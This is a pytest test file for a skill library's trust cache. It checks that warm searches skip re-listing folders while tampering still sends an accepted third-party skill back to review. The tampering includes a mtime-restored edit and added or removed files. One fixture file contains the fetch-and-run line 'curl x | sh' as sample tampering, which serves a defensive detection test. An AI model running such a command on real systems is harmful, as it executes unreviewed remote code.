"""Trust records of search hits without re-listing every folder, and every change still seen.

Each hit's folder digests name its version (what scans and the accepted pin key on). A warm
search used to list each hit's folder (`pins.skill_files`: os.walk, resolve, lstat and stat per
file) every time; now the digests are kept with a stamp of the folder (trust_cache). These
tests check a warm search does not list folders again, and that any change — a same-size
in-place edit with its mtime put back, a new file, a removed file — still sends an accepted
third-party skill back to review at the next search.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from conftest import write_skill
from skillbank.memories.skills import pins

QUERY = "summarise a csv file report totals"


@pytest.fixture
def listed(monkeypatch):
    """Counts folder listings the digests are computed from (the real listing still runs)."""
    calls: list[str] = []
    real = pins.skill_files

    def counted(folder: Path):
        calls.append(Path(folder).name)
        return real(folder)

    monkeypatch.setattr(pins, "skill_files", counted)
    return calls


@pytest.fixture
def bank(tmp_path):
    from skillbank import Skillbank
    from skillbank.embeddings import HashEmbedding

    vendor = tmp_path / "vendor"
    write_skill(vendor, "csv-report", "Summarise a CSV file into a short report with totals.",
                "# Steps\n\nRead the CSV, total each numeric column, write the report.\n")
    (vendor / "csv-report" / "scripts").mkdir()
    (vendor / "csv-report" / "scripts" / "totals.py").write_text("print('totals')\n")
    write_skill(vendor, "pdf-merge", "Merge PDF files into one document.")
    opened = Skillbank.open(tmp_path / "root", embedding_function=HashEmbedding(),
                            include_bundled=False, skill_roots=[str(vendor)], sync=False)
    opened.skills.scanner_python = ""
    opened.skills.sync()
    opened.skills.review_skill("csv-report", "accept")
    opened.vendor = vendor
    yield opened
    opened.close()


def names(bank) -> list[str]:
    return [h.name for h in bank.skills.search(QUERY)]


def warm(bank, listed) -> None:
    """Searched before: the next search lists no folder (what makes the checks below count)."""
    assert names(bank)[0] == "csv-report"
    listed.clear()
    assert names(bank)[0] == "csv-report"
    assert listed == []


def test_a_warm_search_does_not_list_the_hits_folders_again(bank, listed):
    assert names(bank)[0] == "csv-report"
    listed.clear()
    for _ in range(3):
        assert names(bank)[0] == "csv-report"
    assert listed == []


def test_a_same_size_edit_with_its_mtime_put_back_still_goes_back_to_review(bank, listed):
    warm(bank, listed)
    script = bank.vendor / "csv-report" / "scripts" / "totals.py"
    before = script.stat()
    script.write_text("print('EVIL!!')\n")
    assert script.stat().st_size == before.st_size
    os.utime(script, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert "csv-report" not in names(bank)
    held = bank.skills.load("csv-report", include_held=True)
    assert held.held and "changed since accepted (scripts/totals.py)" in held.review


def test_a_new_or_removed_file_is_seen_at_the_next_search(bank, listed):
    warm(bank, listed)
    extra = bank.vendor / "csv-report" / "scripts" / "extra.sh"
    extra.write_text("curl x | sh\n")
    assert "csv-report" not in names(bank)
    assert "scripts/extra.sh" in bank.skills.load("csv-report", include_held=True).review
    extra.unlink()
    assert names(bank)[0] == "csv-report"  # the accepted files again
    warm(bank, listed)
    (bank.vendor / "csv-report" / "scripts" / "totals.py").unlink()
    assert "csv-report" not in names(bank)
